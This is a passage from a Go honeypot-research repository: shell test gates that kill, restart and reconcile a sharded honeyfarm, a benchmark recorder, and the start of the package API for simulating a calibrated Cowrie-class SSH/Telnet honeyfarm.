# finishes first, the resume below degrades to a replay-only run, which
# the byte comparison still validates.
i=0
while kill -0 "$crash_pid" 2>/dev/null; do
    sz=$(du -sk "$tmp/wal" 2>/dev/null | awk '{print $1}')
    if [ "${sz:-0}" -ge 1500 ]; then
        break
    fi
    i=$((i + 1))
    if [ "$i" -gt 600 ]; then
        echo "crash smoke: WAL never reached kill threshold" >&2
        exit 1
    fi
    sleep 0.05 2>/dev/null || sleep 1
done
kill -9 "$crash_pid" 2>/dev/null || true
wait "$crash_pid" 2>/dev/null || true
"$tmp/reproduce" $crash_args -wal-dir "$tmp/wal" -resume -out "$tmp/resumed.txt"
cmp "$tmp/reference.txt" "$tmp/resumed.txt"
"$tmp/fsck" "$tmp/wal" >/dev/null

echo "==> serve smoke (WAL tail, ETag revalidation, SIGTERM drain)"
go build -race -o "$tmp/serve" ./cmd/serve
"$tmp/reproduce" -sessions 20000 -seed 3 -wal-dir "$tmp/servewal" -out "$tmp/servewal-report.txt"
"$tmp/serve" -wal-dir "$tmp/servewal" -addr 127.0.0.1:0 -addr-file "$tmp/addr" -poll 50ms -pprof \
    >"$tmp/serve.log" 2>&1 &
serve_pid=$!
i=0
while [ ! -s "$tmp/addr" ]; do
    i=$((i + 1))
    if [ "$i" -gt 100 ]; then
        echo "serve smoke: serve never wrote its address file" >&2
        cat "$tmp/serve.log" >&2
        exit 1
    fi
    sleep 0.1 2>/dev/null || sleep 1
done
addr=$(cat "$tmp/addr")
# Wait for the tailer to catch up: the WAL is complete, so once the
# snapshot is non-empty and healthz stops changing, the view is stable
# and the ETag below cannot rotate between the two requests.
prev=""
i=0
while :; do
    cur=$(curl -fsS "http://$addr/v1/healthz")
    case "$cur" in
    *'"status":"ok"'*) ;;
    *)
        echo "serve smoke: unhealthy: $cur" >&2
        exit 1
        ;;
    esac
    if [ -n "$prev" ] && [ "$cur" = "$prev" ] && ! printf '%s' "$cur" | grep -q '"snapshot_seq":0,'; then
        break
    fi
    prev=$cur
    i=$((i + 1))
    if [ "$i" -gt 100 ]; then
        echo "serve smoke: tailer never caught up: $cur" >&2
        exit 1
    fi
    sleep 0.2 2>/dev/null || sleep 1
done
for ep in summary pots clients countries availability healthz; do
    curl -fsS "http://$addr/v1/$ep" >/dev/null
done
# -pprof mounts the profiling mux beside the API on the same listener.
curl -fsS "http://$addr/debug/pprof/cmdline" >/dev/null
etag=$(curl -fsSI "http://$addr/v1/summary" | tr -d '\r' | awk 'tolower($1) == "etag:" {print $2}')
if [ -z "$etag" ]; then
    echo "serve smoke: /v1/summary carries no ETag" >&2
    exit 1
fi
code=$(curl -s -o /dev/null -w '%{http_code}' -H "If-None-Match: $etag" "http://$addr/v1/summary")
if [ "$code" != "304" ]; then
    echo "serve smoke: revalidation returned $code, want 304" >&2
    exit 1
fi
kill -TERM "$serve_pid"
serve_status=0
wait "$serve_pid" || serve_status=$?
if [ "$serve_status" -ne 0 ]; then
    echo "serve smoke: serve exited $serve_status" >&2
    cat "$tmp/serve.log" >&2
    exit 1
fi
# cmd/serve verifies the goroutine baseline itself and only prints this
# line after a leak-free drain.
if ! grep -q "drained cleanly" "$tmp/serve.log"; then
    echo "serve smoke: no clean-drain confirmation" >&2
    cat "$tmp/serve.log" >&2
    exit 1
fi

echo "==> merge smoke (3 shards, SIGKILL+restart, byte-identical merge)"
go build -race -o "$tmp/shard" ./cmd/shard
go build -race -o "$tmp/merge" ./cmd/merge
shard_args="-sessions 20000 -seed 5 -pots 97 -workers 2 -batch 100 -pace 40ms"

# poll_file <path> <what>: wait for a process to write its address file.
poll_file() {
    i=0
    while [ ! -s "$1" ]; do
        i=$((i + 1))
        if [ "$i" -gt 150 ]; then
            echo "smoke: $2 never wrote $1" >&2
            cat "$tmp"/*.log >&2 || true
            exit 1
        fi
        sleep 0.1 2>/dev/null || sleep 1
    done
}

# Single-node reference: one shard owning every pot is by construction
# the merge target the sharded run must reproduce byte-for-byte.
"$tmp/shard" $shard_args -shards 1 -index 0 -pace 1ms \
    -wal-dir "$tmp/ref-wal" -addr 127.0.0.1:0 -addr-file "$tmp/ref-addr" \
    >"$tmp/ref.log" 2>&1 &
ref_pid=$!
poll_file "$tmp/ref-addr" "reference shard"
ref_addr=$(cat "$tmp/ref-addr")
i=0
until grep -q "feed complete" "$tmp/ref.log"; do
    i=$((i + 1))
    if [ "$i" -gt 600 ]; then
        echo "merge smoke: reference shard never finished feeding" >&2
        cat "$tmp/ref.log" >&2
        exit 1
    fi
    sleep 0.1 2>/dev/null || sleep 1
done
for ep in summary pots clients countries availability; do
    curl -fsS "http://$ref_addr/v1/$ep" >"$tmp/ref-$ep.json"
done

# The 3-shard fleet, fed slowly enough that the kill lands mid-feed.
for i in 0 1 2; do
    "$tmp/shard" $shard_args -shards 3 -index "$i" \
        -wal-dir "$tmp/s$i-wal" -addr 127.0.0.1:0 -addr-file "$tmp/s$i-addr" \
        >"$tmp/s$i.log" 2>&1 &
    eval "s${i}_pid=\$!"
    poll_file "$tmp/s$i-addr" "shard $i"
done
"$tmp/merge" -shards "http://$(cat "$tmp/s0-addr"),http://$(cat "$tmp/s1-addr"),http://$(cat "$tmp/s2-addr")" \
    -pots 97 -pull-every 50ms -fail-after 2 \
    -addr 127.0.0.1:0 -addr-file "$tmp/merge-addr" \
    >"$tmp/merge.log" 2>&1 &
merge_pid=$!
poll_file "$tmp/merge-addr" "merge"
merge_addr=$(cat "$tmp/merge-addr")

# Let the merge make real progress, then SIGKILL shard 1 mid-feed.
i=0
while :; do
    seq=$(curl -s "http://$merge_addr/v1/healthz" | grep -o '"snapshot_seq":[0-9]*' | cut -d: -f2)
    if [ "${seq:-0}" -ge 1000 ]; then
        break
    fi
    i=$((i + 1))
    if [ "$i" -gt 300 ]; then
        echo "merge smoke: merge never reached seq 1000 (at ${seq:-?})" >&2
        cat "$tmp/merge.log" >&2
        exit 1
    fi
    sleep 0.1 2>/dev/null || sleep 1
done
kill -9 "$s1_pid" 2>/dev/null || true
wait "$s1_pid" 2>/dev/null || true

# The coordinator must mark the shard down and healthz must degrade —
# while the merged snapshot keeps serving (summary stays 200).
i=0
until curl -s "http://$merge_addr/v1/healthz" | grep -q '"status":"degraded:shard"'; do
    i=$((i + 1))
    if [ "$i" -gt 300 ]; then
        echo "merge smoke: healthz never degraded after shard kill" >&2
        curl -s "http://$merge_addr/v1/healthz" >&2 || true
        exit 1
    fi
    sleep 0.1 2>/dev/null || sleep 1
done
curl -fsS "http://$merge_addr/v1/summary" >/dev/null

# Restart the killed shard on its recorded address: the WAL recovers,
# feeding resumes from the first unpersisted record, and the
# coordinator's monotonic install rule rides out the catch-up.
s1_addr=$(cat "$tmp/s1-addr")
"$tmp/shard" $shard_args -shards 3 -index 1 \
    -wal-dir "$tmp/s1-wal" -addr "$s1_addr" \
    >"$tmp/s1-restart.log" 2>&1 &
s1_pid=$!

# Re-convergence: healthz back to ok and /v1/summary byte-identical to
# the single-node reference.
i=0
while :; do
    if curl -s "http://$merge_addr/v1/healthz" | grep -q '"status":"ok"' &&
        curl -fsS "http://$merge_addr/v1/summary" >"$tmp/merge-summary.json" &&
        cmp -s "$tmp/ref-summary.json" "$tmp/merge-summary.json"; then
        break
    fi
    i=$((i + 1))
    if [ "$i" -gt 600 ]; then
        echo "merge smoke: merge never re-converged to the reference" >&2
        curl -s "http://$merge_addr/v1/healthz" >&2 || true
        cat "$tmp/merge.log" >&2
        exit 1
    fi
    sleep 0.1 2>/dev/null || sleep 1
done
for ep in summary pots clients countries availability; do
    curl -fsS "http://$merge_addr/v1/$ep" >"$tmp/merge-$ep.json"
    cmp "$tmp/ref-$ep.json" "$tmp/merge-$ep.json"
done

# Drain everything; each process verifies its own goroutine baseline
# and only prints the clean-drain line after a leak-free exit.
for pid in $merge_pid $s0_pid $s1_pid $s2_pid $ref_pid; do
    kill -TERM "$pid" 2>/dev/null || true
done
merge_status=0
wait "$merge_pid" || merge_status=$?
if [ "$merge_status" -ne 0 ]; then
    echo "merge smoke: merge exited $merge_status" >&2
    cat "$tmp/merge.log" >&2
    exit 1
fi
wait "$s0_pid" "$s1_pid" "$s2_pid" "$ref_pid" || true
if ! grep -q "drained cleanly" "$tmp/merge.log"; then
    echo "merge smoke: merge printed no clean-drain confirmation" >&2
    cat "$tmp/merge.log" >&2
    exit 1
fi
for f in "$tmp/s0.log" "$tmp/s1-restart.log" "$tmp/s2.log" "$tmp/ref.log"; do
    if ! grep -q "drained cleanly" "$f"; then
        echo "merge smoke: $f shows no clean drain" >&2
        cat "$f" >&2
        exit 1
    fi
done
# The killed shard's first incarnation must NOT have drained cleanly —
# proof the SIGKILL landed mid-run and the restart actually recovered.
if grep -q "drained cleanly" "$tmp/s1.log"; then
    echo "merge smoke: shard 1 drained before the kill; nothing was tested" >&2
    exit 1
fi
fsck_out=$("$tmp/fsck" "$tmp/s0-wal" "$tmp/s1-wal" "$tmp/s2-wal" "$tmp/ref-wal")
printf '%s\n' "$fsck_out" | grep -q "summary: 4 path(s)" || {
    echo "merge smoke: fsck printed no fleet summary table" >&2
    printf '%s\n' "$fsck_out" >&2
    exit 1
}

echo "==> loadgen smoke (2-shard wire fleet, open-loop drive, count reconciliation)"
go build -race -o "$tmp/loadgen" ./cmd/loadgen

# Two wire shards: real SSH/Telnet listeners for the owned pots, each
# appending accepted sessions to its own WAL before ingesting them.
# (si, not i: poll_file uses i as its internal counter.)
for si in 0 1; do
    "$tmp/shard" -wire -pots 6 -shards 2 -index "$si" -seed 11 \
        -wal-dir "$tmp/lg-s$si-wal" -addr 127.0.0.1:0 -addr-file "$tmp/lg-s$si-addr" \
        -wire-addr-file "$tmp/lg-s$si.pots" \
        >"$tmp/lg-s$si.log" 2>&1 &
    eval "lg${si}_pid=\$!"
    poll_file "$tmp/lg-s$si-addr" "wire shard $si"
    poll_file "$tmp/lg-s$si.pots" "wire shard $si pot table"
done
lg_s0=$(cat "$tmp/lg-s0-addr")
lg_s1=$(cat "$tmp/lg-s1-addr")

# A merge node over both shards and a serve node tailing shard 0's WAL:
# the full deployment every accepted wire session must flow through.
"$tmp/merge" -shards "http://$lg_s0,http://$lg_s1" -pots 6 -pull-every 50ms \
    -addr 127.0.0.1:0 -addr-file "$tmp/lg-merge-addr" \
    >"$tmp/lg-merge.log" 2>&1 &
lg_merge_pid=$!
"$tmp/serve" -wal-dir "$tmp/lg-s0-wal" -pots 6 -seed 11 -poll 50ms \
    -addr 127.0.0.1:0 -addr-file "$tmp/lg-serve-addr" \
    >"$tmp/lg-serve.log" 2>&1 &
lg_serve_pid=$!
poll_file "$tmp/lg-merge-addr" "loadgen merge"
poll_file "$tmp/lg-serve-addr" "loadgen serve"
lg_merge=$(cat "$tmp/lg-merge-addr")
lg_serve=$(cat "$tmp/lg-serve-addr")

# Same seed, same targets: the emitted plan must be byte-identical.
lg_args="-seed 11 -rate 40 -duration 3s -targets $tmp/lg-s0.pots,$tmp/lg-s1.pots"
"$tmp/loadgen" $lg_args -plan-only -out "$tmp/lg-plan-a.json"
"$tmp/loadgen" $lg_args -plan-only -out "$tmp/lg-plan-b.json"
cmp "$tmp/lg-plan-a.json" "$tmp/lg-plan-b.json"

# Drive the fleet and reconcile: the driver's completed count must match
# the sum of the shards' accepted-session counters exactly.
"$tmp/loadgen" $lg_args -concurrency 32 \
    -check "http://$lg_s0/metrics,http://$lg_s1/metrics" \
    -require-clean -out "$tmp/lg-report.json"
grep -q '"match": true' "$tmp/lg-report.json" || {
    echo "loadgen smoke: report shows no reconciliation match" >&2
    cat "$tmp/lg-report.json" >&2
    exit 1
}

# The serve node tails shard 0's WAL: it must converge to exactly the
# sessions shard 0 accepted (counted at its own /metrics).
acc0=$(curl -fsS "http://$lg_s0/metrics" |
    awk '$1 == "honeyfarm_wire_sessions_accepted_total" {print $2}')
if [ -z "$acc0" ] || [ "$acc0" -lt 1 ]; then
    echo "loadgen smoke: shard 0 accepted no sessions (${acc0:-?})" >&2
    exit 1
fi
i=0
while :; do
    got=$(curl -fsS "http://$lg_serve/metrics" |
        awk '$1 == "honeyfarm_ingested_records_total" {print $2}')
    if [ "${got:-0}" -eq "$acc0" ]; then
        break
    fi
    i=$((i + 1))
    if [ "$i" -gt 100 ]; then
        echo "loadgen smoke: serve ingested ${got:-?}, shard 0 accepted $acc0" >&2
        cat "$tmp/lg-serve.log" >&2
        exit 1
    fi
    sleep 0.1 2>/dev/null || sleep 1
done
# The merge node's /metrics must carry both shards as up, and its
# merged sequence (Σ shard seqs) must converge to the total accepted
# across the fleet — closing the loadgen → shards → merge count chain.
merge_up=$(curl -fsS "http://$lg_merge/metrics" |
    awk '$1 ~ /^honeyfarm_shard_up\{/ {n += $2} END {print n}')
if [ "${merge_up:-0}" -ne 2 ]; then
    echo "loadgen smoke: merge reports ${merge_up:-0}/2 shards up" >&2
    curl -fsS "http://$lg_merge/metrics" >&2 || true
    exit 1
fi
acc1=$(curl -fsS "http://$lg_s1/metrics" |
    awk '$1 == "honeyfarm_wire_sessions_accepted_total" {print $2}')
total=$((acc0 + ${acc1:-0}))
i=0
while :; do
    mseq=$(curl -fsS "http://$lg_merge/metrics" |
        awk '$1 == "honeyfarm_ingested_records_total" {print $2}')
    if [ "${mseq:-0}" -eq "$total" ]; then
        break
    fi
    i=$((i + 1))
    if [ "$i" -gt 100 ]; then
        echo "loadgen smoke: merge seq ${mseq:-?}, fleet accepted $total" >&2
        cat "$tmp/lg-merge.log" >&2
        exit 1
    fi
    sleep 0.1 2>/dev/null || sleep 1
done

# Drain the whole fleet; every process checks its own goroutine
# baseline and only prints the clean-drain line on a leak-free exit.
for pid in $lg_merge_pid $lg_serve_pid $lg0_pid $lg1_pid; do
    kill -TERM "$pid" 2>/dev/null || true
done
lg_status=0
wait "$lg_merge_pid" "$lg_serve_pid" "$lg0_pid" "$lg1_pid" || lg_status=$?
if [ "$lg_status" -ne 0 ]; then
    echo "loadgen smoke: a fleet process exited nonzero" >&2
    cat "$tmp"/lg-*.log >&2
    exit 1
fi
for f in "$tmp/lg-merge.log" "$tmp/lg-serve.log" "$tmp/lg-s0.log" "$tmp/lg-s1.log"; do
    if ! grep -q "drained cleanly" "$f"; then
        echo "loadgen smoke: $f shows no clean drain" >&2
        cat "$f" >&2
        exit 1
    fi
done

echo "==> real-ENOSPC gate (WAL degraded mode on a size-capped tmpfs)"
if [ "$(uname -s)" = "Linux" ] &&
    mkdir -p "$tmp/enospc" &&
    mount -t tmpfs -o size=2m tmpfs "$tmp/enospc" 2>/dev/null; then
    enospc_status=0
    HONEYFARM_ENOSPC_DIR="$tmp/enospc" \
        go test -race -count=1 -run TestRealENOSPC ./internal/wal || enospc_status=$?
    umount "$tmp/enospc"
    if [ "$enospc_status" -ne 0 ]; then
        echo "real-ENOSPC gate failed" >&2
        exit 1
    fi
else
    echo "    tmpfs mount unavailable (needs Linux + privileges); skipping"
fi

echo "==> benchmark smoke (go test -bench=. -benchtime=1x)"
go test -run='^$' -bench=. -benchtime=1x ./... >/dev/null

echo "==> WAL append gate (>=80% of latest BENCH_<n>.json)"
baseline=""
n=1
while [ -e "BENCH_${n}.json" ]; do
    baseline="BENCH_${n}.json"
    n=$((n + 1))
done
if [ -z "$baseline" ]; then
    echo "    no BENCH_<n>.json baseline checked in; skipping"
else
    want=$(grep -o '"name": "BenchmarkWALAppendRecover/append[^}]*' "$baseline" |
        grep -o '"records_per_sec": [0-9.eE+]*' | head -1 | awk '{print $2}')
    if [ -z "$want" ]; then
        echo "bench gate: $baseline has no BenchmarkWALAppendRecover/append row" >&2
        exit 1
    fi
    # Best of three samples: container load is one-sided noise (it only
    # ever lowers throughput), so the max is the honest estimate of what
    # the code can do, and a single sample landing in a load spike does
    # not fail the gate spuriously.
    got=$(go test -run '^$' -bench 'WALAppendRecover/append$' -benchtime 3x -count 3 . |
        awk '$1 ~ /^BenchmarkWALAppendRecover\/append/ {
            for (i = 4; i <= NF; i++) if ($i == "records/s" && $(i - 1) + 0 > best) best = $(i - 1)
        } END { if (best) print best }')
    if [ -z "$got" ]; then
        echo "bench gate: benchmark produced no records/s metric" >&2
        exit 1
    fi
    echo "    append: ${got} records/s now vs ${want} in ${baseline}"
    if ! awk -v got="$got" -v want="$want" 'BEGIN { exit !(got + 0 >= 0.8 * (want + 0)) }'; then
        echo "bench gate: append throughput dropped >20% vs ${baseline}" >&2
        exit 1
    fi
fi

echo "all checks passed"
