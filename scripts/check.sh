#!/bin/sh
# check.sh — the full verification gate, run from anywhere inside the
# repository. Everything here must pass before a change lands:
#
#   gofmt        all source formatted
#   go vet       toolchain static checks
#   go build     the module compiles
#   lint         the repo's own analyzer suite (see internal/lint), zero findings
#   go test -race  full test suite under the race detector
#   chaos smoke  the fault-injection suite (supervisor restarts, outage
#                windows, bounded drain) once more under -race — the
#                tests most sensitive to goroutine leaks and deadlocks
#   bench smoke  every benchmark runs once (-benchtime=1x), so a broken
#                benchmark cannot sit undetected until a baseline run
set -eu

cd "$(dirname "$0")/.."

echo "==> gofmt"
unformatted=$(gofmt -l .)
if [ -n "$unformatted" ]; then
    echo "gofmt: needs formatting:" >&2
    echo "$unformatted" >&2
    exit 1
fi

echo "==> go vet ./..."
go vet ./...

echo "==> go build ./..."
go build ./...

echo "==> go run ./cmd/lint ./..."
go run ./cmd/lint ./...

echo "==> go test -race ./..."
go test -race ./...

chaos_run='TestChaos|TestStop|TestKill|TestOutage|TestFault|TestConnFault|TestBackoff|TestDropsSession|TestPotDown'
echo "==> chaos smoke (go test -race -count=1 -run '$chaos_run')"
go test -race -count=1 -run "$chaos_run" ./internal/farm ./internal/netsim ./internal/faults

echo "==> benchmark smoke (go test -bench=. -benchtime=1x)"
go test -run='^$' -bench=. -benchtime=1x ./... >/dev/null

echo "all checks passed"
