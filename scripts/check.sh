#!/bin/sh
# check.sh — the full verification gate, run from anywhere inside the
# repository. Everything here must pass before a change lands:
#
#   gofmt        all source formatted
#   go vet       toolchain static checks
#   go build     the module compiles
#   lint         the repo's own analyzer suite (see internal/lint), zero findings
#   go test -race  full test suite under the race detector
#   chaos smoke  the fault-injection suite (supervisor restarts, outage
#                windows, bounded drain) once more under -race — the
#                tests most sensitive to goroutine leaks and deadlocks
#   crash smoke  reproduce is SIGKILLed mid-generation with a WAL
#                checkpoint, resumed, and the resumed report is compared
#                byte-for-byte against an uninterrupted run; fsck must
#                then find the WAL healthy
#   bench smoke  every benchmark runs once (-benchtime=1x), so a broken
#                benchmark cannot sit undetected until a baseline run
set -eu

cd "$(dirname "$0")/.."

echo "==> gofmt"
unformatted=$(gofmt -l .)
if [ -n "$unformatted" ]; then
    echo "gofmt: needs formatting:" >&2
    echo "$unformatted" >&2
    exit 1
fi

echo "==> go vet ./..."
go vet ./...

echo "==> go build ./..."
go build ./...

echo "==> go run ./cmd/lint ./..."
go run ./cmd/lint ./...

echo "==> go test -race ./..."
go test -race ./...

chaos_run='TestChaos|TestStop|TestKill|TestOutage|TestFault|TestConnFault|TestBackoff|TestDropsSession|TestPotDown'
echo "==> chaos smoke (go test -race -count=1 -run '$chaos_run')"
go test -race -count=1 -run "$chaos_run" ./internal/farm ./internal/netsim ./internal/faults

echo "==> crash smoke (SIGKILL mid-generation, resume, diff)"
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
go build -o "$tmp/reproduce" ./cmd/reproduce
go build -o "$tmp/fsck" ./cmd/fsck
crash_args="-sessions 300000 -seed 7 -workers 2"
"$tmp/reproduce" $crash_args -out "$tmp/reference.txt"
"$tmp/reproduce" $crash_args -wal-dir "$tmp/wal" -out "$tmp/killed.txt" &
crash_pid=$!
# Kill once at least one generation shard (~1.4 MB frame) has been
# written to the WAL, so the resume provably continues from recovered
# state rather than starting over. If the run outraces the poll and
# finishes first, the resume below degrades to a replay-only run, which
# the byte comparison still validates.
i=0
while kill -0 "$crash_pid" 2>/dev/null; do
    sz=$(du -sk "$tmp/wal" 2>/dev/null | awk '{print $1}')
    if [ "${sz:-0}" -ge 1500 ]; then
        break
    fi
    i=$((i + 1))
    if [ "$i" -gt 600 ]; then
        echo "crash smoke: WAL never reached kill threshold" >&2
        exit 1
    fi
    sleep 0.05 2>/dev/null || sleep 1
done
kill -9 "$crash_pid" 2>/dev/null || true
wait "$crash_pid" 2>/dev/null || true
"$tmp/reproduce" $crash_args -wal-dir "$tmp/wal" -resume -out "$tmp/resumed.txt"
cmp "$tmp/reference.txt" "$tmp/resumed.txt"
"$tmp/fsck" "$tmp/wal" >/dev/null

echo "==> benchmark smoke (go test -bench=. -benchtime=1x)"
go test -run='^$' -bench=. -benchtime=1x ./... >/dev/null

echo "all checks passed"
