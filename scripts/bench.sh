#!/bin/sh
# bench.sh — record a benchmark baseline as BENCH_<n>.json in the repo
# root, picking the first unused n. The default run covers the sharded
# generation pipeline's scaling (BenchmarkGenerateWorkers), the WAL
# durability tax (BenchmarkWALAppendRecover), the analyzer engine's
# cold/warm split (BenchmarkLintRepo), and the open-loop harness's wire
# path (BenchmarkLoadgenWirePath); pass a different -bench regexp
# and/or -benchtime as $1 and $2:
#
#   scripts/bench.sh                     # default set, 1x
#   scripts/bench.sh 'Generate' 3x       # wider sweep, 3 iterations
#
# The baseline embeds the machine's core count: worker-scaling numbers
# are only comparable between baselines recorded on similar machines,
# and a single-core box cannot show a parallel speedup at all.
set -eu

cd "$(dirname "$0")/.."

bench="${1:-GenerateWorkers|WALAppendRecover|LintRepo|LoadgenWirePath}"
benchtime="${2:-1x}"

n=1
while [ -e "BENCH_${n}.json" ]; do n=$((n + 1)); done
out="BENCH_${n}.json"

cores=$(nproc 2>/dev/null || getconf _NPROCESSORS_ONLN 2>/dev/null || echo 1)

raw=$(go test -run '^$' -bench "$bench" -benchtime "$benchtime" -count 1 .)

{
    echo "{"
    echo "  \"baseline\": ${n},"
    echo "  \"date\": \"$(date -u +%Y-%m-%dT%H:%M:%SZ)\","
    echo "  \"go\": \"$(go env GOVERSION)\","
    echo "  \"goos\": \"$(go env GOOS)\","
    echo "  \"goarch\": \"$(go env GOARCH)\","
    echo "  \"cores\": ${cores},"
    echo "  \"bench\": \"${bench}\","
    echo "  \"benchtime\": \"${benchtime}\","
    echo "  \"results\": ["
    printf '%s\n' "$raw" | awk '
        /^Benchmark/ {
            name = $1; iters = $2; nsop = $3
            sps = ""; rps = ""; pps = ""
            for (i = 4; i <= NF; i++) {
                if ($i == "sessions/s") sps = $(i - 1)
                if ($i == "records/s") rps = $(i - 1)
                if ($i == "pkgs/s") pps = $(i - 1)
            }
            if (emitted) printf ",\n"
            printf "    {\"name\": \"%s\", \"iterations\": %s, \"ns_per_op\": %s", name, iters, nsop
            if (sps != "") printf ", \"sessions_per_sec\": %s", sps
            if (rps != "") printf ", \"records_per_sec\": %s", rps
            if (pps != "") printf ", \"packages_per_sec\": %s", pps
            printf "}"
            emitted = 1
        }
        END { if (emitted) printf "\n" }'
    echo "  ]"
    echo "}"
} >"$out"

echo "wrote ${out} (${cores} cores)"
