// Package honeyfarm is the public API of the honeyfarm reproduction: a
// from-scratch Cowrie-class SSH/Telnet honeypot, a simulated global
// honeyfarm deployment (221 honeypots, 55 countries, 65 ASes), a
// calibrated synthetic attacker population standing in for the paper's
// proprietary 402M-session dataset, and the measurement pipeline that
// regenerates every table and figure of "Fifteen Months in the Life of
// a Honeyfarm" (IMC 2023).
//
// Three entry points cover the common uses:
//
//   - Simulate generates a calibrated session dataset at a chosen scale
//     and wraps it in a Dataset with one method per paper artifact.
//   - NewFarm builds a wire-level in-process honeyfarm whose honeypots
//     speak real SSH and Telnet over an in-memory fabric (or real TCP
//     via honeypot.Honeypot directly).
//   - LoadDataset / (*Dataset).Save round-trip datasets as JSONL.
package honeyfarm

import (
	"fmt"
	"io"
	"os"
	"time"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/atomicio"
	"honeyfarm/internal/cowrielog"
	"honeyfarm/internal/farm"
	"honeyfarm/internal/faults"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/stats"
	"honeyfarm/internal/store"
	"honeyfarm/internal/workload"
)

// Re-exported core types, so downstream users need only this package.
type (
	// SessionRecord is one honeypot session summary.
	SessionRecord = honeypot.SessionRecord
	// LoginAttempt, CommandRecord and FileRecord are SessionRecord's
	// component types.
	LoginAttempt  = honeypot.LoginAttempt
	CommandRecord = honeypot.CommandRecord
	FileRecord    = honeypot.FileRecord
	// Category is the NO_CRED / FAIL_LOG / NO_CMD / CMD / CMD+URI taxonomy.
	Category = analysis.Category
	// HashStat is one file hash's aggregate row (Tables 4–6).
	HashStat = analysis.HashStat
	// Registry is the synthetic Internet geography.
	Registry = geo.Registry
	// Farm is a running wire-level honeyfarm.
	Farm = farm.Farm
	// FaultPlan is a seeded deterministic fault-injection plan; its
	// Outages take individual honeypots down for day windows, and a
	// FaultReport accounts what a faulted run lost.
	FaultPlan   = faults.Plan
	FaultOutage = faults.Outage
	FaultReport = faults.Report
	// DurableSink receives every accepted record batch before the
	// in-memory store keeps it — write-ahead persistence for crash
	// safety (wal.Log satisfies it).
	DurableSink = store.DurableSink
)

// Category values.
const (
	NoCred  = analysis.NoCred
	FailLog = analysis.FailLog
	NoCmd   = analysis.NoCmd
	Cmd     = analysis.Cmd
	CmdURI  = analysis.CmdURI
)

// DefaultEpoch is the observation period start (2021-12-01), matching
// the paper.
var DefaultEpoch = time.Date(2021, 12, 1, 0, 0, 0, 0, time.UTC)

// NewRegistry builds the deterministic synthetic Internet.
func NewRegistry(seed int64) *Registry {
	return geo.NewRegistry(geo.Config{Seed: seed})
}

// SimulateConfig parameterizes dataset generation. The zero value plus a
// Seed yields the default: 400k sessions (≈1/1000 of the paper's 402M)
// over 486 days on a 221-honeypot farm.
type SimulateConfig struct {
	Seed          int64
	TotalSessions int
	Days          int
	NumPots       int
	Registry      *Registry // optional; built from Seed when nil
	// Workers is the generation fan-out (default GOMAXPROCS). The
	// dataset is byte-identical for every value; see workload.Config.
	Workers int
	// Faults, when non-nil and active, deterministically culls the
	// sessions the fault plan would have lost (pot outage windows plus a
	// connection-fault share); the Dataset's Availability table reports
	// the per-pot losses. Same seed + same plan ⇒ byte-identical output.
	Faults *FaultPlan
	// CheckpointDir makes generation crash-safe: completed work is
	// appended to a write-ahead log there, and a run interrupted mid-way
	// can be restarted with Resume to continue from the first unfinished
	// shard — still producing byte-identical output. See workload.Config.
	CheckpointDir string
	Resume        bool
}

// Dataset is a generated or loaded session dataset with its geography,
// exposing one method per paper artifact.
type Dataset struct {
	Store       *store.Store
	Registry    *Registry
	Deployments []geo.Deployment
	NumPots     int
	// Faults carries the fault plan's loss accounting when the dataset
	// was generated under one; nil for fault-free or loaded datasets.
	Faults *FaultReport
	tagger analysis.Tagger

	perPot  []analysis.PerHoneypot // lazily computed
	hashes  []analysis.HashStat
	clients []analysis.ClientStat
}

// Simulate generates a calibrated synthetic dataset.
func Simulate(cfg SimulateConfig) (*Dataset, error) {
	reg := cfg.Registry
	if reg == nil {
		reg = NewRegistry(cfg.Seed)
	}
	res, err := workload.Generate(workload.Config{
		Seed:          cfg.Seed,
		TotalSessions: cfg.TotalSessions,
		Days:          cfg.Days,
		NumPots:       cfg.NumPots,
		Registry:      reg,
		Epoch:         DefaultEpoch,
		Workers:       cfg.Workers,
		Faults:        cfg.Faults,
		CheckpointDir: cfg.CheckpointDir,
		Resume:        cfg.Resume,
	})
	if err != nil {
		return nil, err
	}
	numPots := cfg.NumPots
	if numPots <= 0 {
		numPots = 221
	}
	return &Dataset{
		Store:       res.Store,
		Registry:    reg,
		Deployments: res.Deployments,
		NumPots:     numPots,
		Faults:      res.Faults,
		tagger:      res.Tagger(),
	}, nil
}

// NewDatasetFromResult wraps a raw workload.Result (e.g. one generated
// from a custom scenario) in a Dataset with its campaign tagger.
func NewDatasetFromResult(res *workload.Result, reg *Registry, numPots int) *Dataset {
	if numPots <= 0 {
		numPots = 221
	}
	return &Dataset{
		Store:       res.Store,
		Registry:    reg,
		Deployments: res.Deployments,
		NumPots:     numPots,
		Faults:      res.Faults,
		tagger:      res.Tagger(),
	}
}

// FarmConfig configures a wire-level honeyfarm.
type FarmConfig struct {
	Seed     int64
	NumPots  int
	Registry *Registry
	// Fetch resolves attacker download URIs; nil blocks egress.
	Fetch func(uri string) ([]byte, error)
	// Faults injects deterministic connection faults and pot outage
	// windows into the running farm; see farm.Config.
	Faults *FaultPlan
	// DayLength maps the plan's outage days to wall clock (outages are
	// only scheduled when positive), and DrainTimeout bounds Stop's
	// graceful drain.
	DayLength    time.Duration
	DrainTimeout time.Duration
	// Durable, when non-nil, makes the farm's collector write-ahead
	// persistent: every accepted record batch reaches the sink before it
	// is kept in memory.
	Durable DurableSink
	// Tee, when non-nil, observes every accepted record batch in
	// collector acceptance order — e.g. a query.Engine's Ingest method,
	// so live aggregates track the farm without a WAL round-trip.
	Tee func([]*SessionRecord)
}

// NewFarm builds (but does not start) a wire-level honeyfarm.
func NewFarm(cfg FarmConfig) (*Farm, error) {
	reg := cfg.Registry
	if reg == nil {
		reg = NewRegistry(cfg.Seed)
	}
	return farm.New(farm.Config{
		Seed:         cfg.Seed,
		NumPots:      cfg.NumPots,
		Registry:     reg,
		Epoch:        DefaultEpoch,
		Fetch:        cfg.Fetch,
		Faults:       cfg.Faults,
		DayLength:    cfg.DayLength,
		DrainTimeout: cfg.DrainTimeout,
		Durable:      cfg.Durable,
		Tee:          cfg.Tee,
	})
}

// Save writes the dataset's sessions as JSONL.
func (d *Dataset) Save(w io.Writer) error { return d.Store.WriteJSONL(w) }

// SaveFile writes the dataset to a file, atomically: the JSONL goes to
// a same-directory temporary file that is fsynced and renamed into
// place, so a crash mid-save never leaves a truncated dataset at path.
func (d *Dataset) SaveFile(path string) error {
